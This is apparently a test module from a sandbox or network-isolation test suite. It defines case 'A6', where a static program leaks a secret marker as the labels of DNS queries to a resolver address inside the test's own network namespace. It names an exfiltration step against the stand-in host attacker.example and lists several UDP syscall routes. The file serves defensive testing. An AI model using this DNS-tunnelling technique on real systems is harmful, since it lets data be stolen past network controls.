"""A6: a static program sends what it stole as the labels of DNS questions.

In a network namespace of the test's own, where the test can listen on port 53 of an address that
stands for a public resolver.
"""
import loopback
from attack import AttackBase, Record, Step
from sinks import TcpSink, UdpSink
from world import new_marker

RESOLVER = "203.0.113.53"
UDP = ("sendto", "sendmsg", "sendmmsg", "connected", "write", "writev")


class Attack(AttackBase):
    row = "A6"
    title = "DNS labels from a static program"
    needs_netns = True
    added = []

    def prepare(self, world):
        if not self.added:
            loopback.bring_up(RESOLVER)
            self.added.append(RESOLVER)
        self.udp, self.tcp = UdpSink(RESOLVER, 53), TcpSink(RESOLVER, 53)
        world.on_close(self.udp.close)
        world.on_close(self.tcp.close)
        self.secret = new_marker().lower()

    def steps(self, world):
        return [Step("dns_exfil-static", [RESOLVER, "53", self.secret, "attacker.example"])]

    def succeeded(self, case, world, outcome):
        for way in UDP:
            labels = bytes([len(way)]) + way.encode() + bytes([len(self.secret)])
            case.assertEqual(1, self.udp.count(labels + self.secret.encode()),
                             way + outcome.describe())
        case.assertEqual(1, self.tcp.count(self.secret.encode()), outcome.describe())

    def stopped(self, case, world, outcome):
        case.assertTrue(self.udp.untouched, "%r\n%s" % (self.udp.messages()[:2],
                                                        outcome.describe()))
        case.assertTrue(self.tcp.untouched, outcome.describe())

    def records(self, world):
        asked = ["%s.%s.attacker.example" % (way, self.secret) for way in (*UDP, "tcp")]
        return [Record([RESOLVER, "53"], refused=False, note="whom it asked"),
                *[Record([name], note="the name that was asked for") for name in asked]]
